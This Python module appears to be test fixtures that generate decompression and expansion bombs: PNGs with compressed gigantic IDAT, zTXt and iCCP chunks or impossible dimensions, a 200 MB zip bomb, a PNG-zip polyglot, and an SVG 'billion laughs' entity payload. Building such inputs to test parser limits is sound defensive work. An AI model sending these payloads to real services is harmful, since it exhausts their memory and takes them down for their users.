"""Small files that are enormous when somebody believes them."""

import io
import struct
import zipfile
import zlib

_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def _nothing(megabytes: int) -> bytes:
    """So much of it, packed to a thousandth, and never whole in memory."""
    packer = zlib.compressobj(9)
    return b"".join([packer.compress(bytes(1_000_000)) for _ in range(megabytes)]) + packer.flush()


_EMPTY = _nothing(200)


def _chunk(kind: bytes, content: bytes) -> bytes:
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


def _png(side: int, *more: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0))
    return _SIGNATURE + head + b"".join(more) + _chunk(b"IEND", b"")


def _archive() -> bytes:
    written = io.BytesIO()
    with (
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("picture.png", "w") as file,
    ):
        for _ in range(200):
            file.write(bytes(1_000_000))
    return written.getvalue()


BOMBS = {
    "ten thousand megapixels": _png(100_000, _chunk(b"IDAT", _EMPTY)),
    "all the pixels there can be": _png(2**31 - 1, _chunk(b"IDAT", _EMPTY)),
    "text": _png(100, _chunk(b"zTXt", b"Comment\0\0" + _EMPTY), _chunk(b"IDAT", b"")),
    "a profile": _png(100, _chunk(b"iCCP", b"sRGB\0\0" + _EMPTY), _chunk(b"IDAT", b"")),
    "an archive": _archive(),
    "an archive behind a picture": _png(100) + _archive(),
    "svg": b'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>',
}
